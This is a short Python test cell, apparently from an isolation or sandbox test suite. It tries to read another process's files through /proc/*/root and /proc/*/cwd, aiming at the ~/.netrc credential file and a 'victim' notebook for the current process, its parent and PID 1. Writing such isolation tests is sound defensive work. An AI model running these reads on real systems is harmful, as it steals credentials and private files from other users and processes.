# attacks: open files of this and other processes, through /proc/*/fd and /proc/*/root
# success: something secret is read from one
# %% before
import os

for _pid in ("self", os.getppid(), 1):
    for _path in (f"/proc/{_pid}/root@HOME@/.netrc", f"/proc/{_pid}/cwd/../victim/mask/mask.ipynb"):
        try:
            print(open(_path).read()[-2000:])
        except OSError as _error:
            print(_error)
